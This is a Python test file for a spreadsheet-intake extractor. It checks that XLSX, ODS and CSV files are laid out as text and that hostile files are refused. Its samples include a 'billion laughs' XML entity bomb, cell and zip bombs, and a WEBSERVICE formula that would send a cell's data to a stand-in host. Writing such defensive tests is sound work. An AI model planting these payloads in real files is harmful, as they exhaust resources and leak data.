"""Spreadsheets (XLSX/XLSM, ODS, CSV/TSV): cells under their headings, hostile files refused.

Every extraction here runs in the real confined child; only the shared-strings ceiling
is tested in-process, with the ceiling lowered, because a file over the real one is
hundreds of megabytes.
"""

from __future__ import annotations

import datetime
import io
import zipfile

import pytest
from intake_samples import (
    MARKER,
    make_ods,
    make_xlsx,
    ods_cell,
    replace_part,
    save_xlsx,
    zip_with_zeros,
)
from openpyxl.comments import Comment

from workstation.detection.layout.csv_exports import csv_cells
from workstation.intake import ChildLimits, extract, xlsx_text
from workstation.intake.notes import refusal_note
from workstation.intake.outcome import Refused

PEOPLE = [["Name", "Passport", "Phone"], ["Ana Ruiz", "X1234567", "+34 600 111 222"]]
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
)


def test_xlsx_sheets_laid_out_as_csv_with_hidden_sheets_and_comments() -> None:
    workbook = make_xlsx([*PEOPLE, ["Bob, Jr.", 12.0, datetime.datetime(2020, 1, 2)]])
    sheet = workbook.active  # type: ignore[attr-defined]
    sheet["A3"].comment = Comment(f"Source {MARKER}", "Ed Smith")
    hidden = workbook.create_sheet("Payroll")  # type: ignore[attr-defined]
    hidden.sheet_state = "hidden"
    hidden.append(["Salary", None, "Bank"])
    result = extract(save_xlsx(workbook), "leak.XLSX")
    assert (result.kind, result.reviewable, result.note) == ("xlsx", True, "")
    assert result.text == (
        "[sheet: People]\nName,Passport,Phone\nAna Ruiz,X1234567,+34 600 111 222\n"
        '"Bob, Jr.",12,2020-01-02\n\n'
        "[sheet: Payroll (hidden)]\nSalary,,Bank\n\n"
        f"[comments]\nA3: Source {MARKER}"
    )
    assert result.details == {"sheets": 2, "rows": 4, "comments": 1}


def test_every_cell_of_a_name_column_is_proposed_under_its_heading() -> None:
    rows = [*PEOPLE, ["Carlos Mendez", "Y7654321", "+34 600 333 444"]]
    text = extract(save_xlsx(make_xlsx(rows)), "staff.xlsm").text or ""
    names = [text[span.start : span.end] for span in csv_cells(text) if span.entity == "PERSON"]
    assert names == ["Ana Ruiz", "Carlos Mendez"]
    passports = [s for s in csv_cells(text) if s.entity == "PASSPORT_NUMBER"]
    assert [s.reason for s in passports] == ["in the 'Passport' column of an export"] * 2


def test_formulas_are_never_evaluated_and_links_never_followed() -> None:
    workbook = make_xlsx(PEOPLE)
    sheet = workbook.active  # type: ignore[attr-defined]
    sheet["D2"] = '=WEBSERVICE("http://example.invalid/" & A2)'
    sheet["E2"] = "=[1]Sheet1!A1"
    result = extract(save_xlsx(workbook), "links.xlsx")
    # No cached value was saved, so the cells are empty: nothing computed, nothing fetched,
    # and the formula's own words are the fingerprint pass's (see test_originals).
    assert result.reviewable
    assert "WEBSERVICE" not in (result.text or "")
    assert result.text == "[sheet: People]\n" + "\n".join(",".join(row) for row in PEOPLE)


def test_a_declared_dimension_is_not_padded_out() -> None:
    data = save_xlsx(make_xlsx(PEOPLE))
    sheet_xml = openpyxl_sheet_xml(data).replace(
        b'<dimension ref="A1:C2"/>', b'<dimension ref="A1:XFD1048576"/>'
    )
    result = extract(replace_part(data, "xl/worksheets/sheet1.xml", sheet_xml), "wide.xlsx")
    assert result.text is not None and result.text.count("\n") == 2


def openpyxl_sheet_xml(data: bytes) -> bytes:
    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


def test_a_cell_bomb_is_refused_with_one_line() -> None:
    rows = "".join(
        f'<row r="{n}"><c r="XFD{n}" t="inlineStr"><is><t>x</t></is></c></row>'
        for n in range(1, 1400)
    )
    data = save_xlsx(make_xlsx([["Name"]]))
    sheet_xml = openpyxl_sheet_xml(data)
    start, end = sheet_xml.index(b"<sheetData>"), sheet_xml.index(b"</sheetData>")
    bomb = sheet_xml[: start + 11] + rows.encode() + sheet_xml[end:]
    result = extract(replace_part(data, "xl/worksheets/sheet1.xml", bomb), "cells.xlsx")
    assert (result.reviewable, result.note) == (
        False,
        "Excel workbook has too many cells to lay out (looks like a cell bomb)",
    )


def test_an_entity_bomb_in_any_part_is_refused() -> None:
    data = save_xlsx(make_xlsx(PEOPLE))
    bomb = replace_part(data, "docProps/core.xml", (BILLION_LAUGHS + "<x>&lol2;</x>").encode())
    result = extract(bomb, "laughs.xlsx")
    assert (result.reviewable, result.note) == (
        False,
        "Excel workbook declares XML entities or a DTD (an entity bomb or external link)",
    )


def test_a_zip_bomb_workbook_and_a_workbook_that_is_no_zip_are_refused() -> None:
    bomb = extract(zip_with_zeros(32 * 1024 * 1024), "bomb.xlsx", ChildLimits())
    assert bomb.note == "Excel workbook looks like a zip bomb (a part is compressed too well)"
    fake = extract(b"Name,Phone\nAna,1\n", "fake.xlsx")
    assert (fake.kind, fake.reviewable) == ("other", False)


def test_a_huge_shared_strings_table_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_text, "MAX_SHARED_STRINGS_BYTES", 100)
    table = b'<sst xmlns="x">' + b"<si><t>a long shared string</t></si>" * 20 + b"</sst>"
    data = replace_part(save_xlsx(make_xlsx(PEOPLE)), "xl/sharedStrings.xml", table)
    with pytest.raises(Refused) as refused:
        xlsx_text.parse(data, ChildLimits())
    assert refused.value.code == "sheet_shared_strings"
    assert refusal_note("sheet_shared_strings", "xlsx", ChildLimits()) == (
        "Excel workbook has a shared-strings table too large to read"
    )


def test_ods_tables_with_repeats_spans_and_comments() -> None:
    note = (
        "<office:annotation><dc:creator>Ed</dc:creator><text:p>Check her</text:p>"
        "</office:annotation>"
    )
    rows = (
        f"<table:table-row>{ods_cell('Name')}{ods_cell('Passport')}{ods_cell('Phone')}"
        f"{ods_cell(repeat=16000)}</table:table-row>"
        f"<table:table-row>{ods_cell('Ana <text:span>Ruiz</text:span>', extra=note)}"
        f"{ods_cell('X<text:s/>1')}{ods_cell('+1 555')}</table:table-row>"
        f'<table:table-row table:number-rows-repeated="1048000">{ods_cell(repeat=1024)}'
        "</table:table-row>"
    )
    result = extract(make_ods({"Staff": rows}), "staff.ods")
    assert (result.kind, result.reviewable) == ("ods", True)
    assert result.text == (
        "[sheet: Staff]\nName,Passport,Phone\nAna Ruiz,X 1,+1 555\n\n[comments]\nStaff: Check her"
    )
    assert result.details == {"sheets": 1, "rows": 2, "comments": 1}


def test_ods_repeat_bomb_and_dtd_are_refused() -> None:
    bomb_rows = (
        f'<table:table-row table:number-rows-repeated="1000000">{ods_cell("x", 16000)}'
        "</table:table-row>"
    )
    bomb = extract(make_ods({"Bomb": bomb_rows}), "bomb.ods")
    assert bomb.note == (
        "OpenDocument spreadsheet has too many cells to lay out (looks like a cell bomb)"
    )
    laughs = extract(make_ods({"T": ""}, prolog=BILLION_LAUGHS), "laughs.ods")
    assert laughs.note == (
        "OpenDocument spreadsheet declares XML entities or a DTD (an entity bomb or external link)"
    )


def test_csv_and_tsv_come_back_as_comma_csv() -> None:
    semicolons = extract(b"Name;Passport;Phone\r\nAna Ruiz;X1;+1 555\r\n", "a.csv")
    tabs = extract(b"Name\tPassport\tPhone\nAna Ruiz\tX1\t+1 555\n", "a.TSV")
    expected = "[sheet: table]\nName,Passport,Phone\nAna Ruiz,X1,+1 555"
    assert (semicolons.kind, semicolons.text, tabs.text) == ("csv", expected, expected)
    assert semicolons.details == {"sheets": 1, "rows": 2}


def test_csv_in_windows_1252_and_a_field_too_long() -> None:
    legacy = extract("Nom,Prénom,Ville\nDurand,Élodie,Lyon\n".encode("cp1252"), "fr.csv")
    assert (legacy.text, legacy.note) == (
        "[sheet: table]\nNom,Prénom,Ville\nDurand,Élodie,Lyon",
        "decoded as Windows-1252",
    )
    huge = extract(b'Name\n"' + b"x" * (2 * 1024 * 1024) + b'"\n', "one.csv")
    assert (huge.reviewable, huge.note) == (False, "CSV file could not be read")
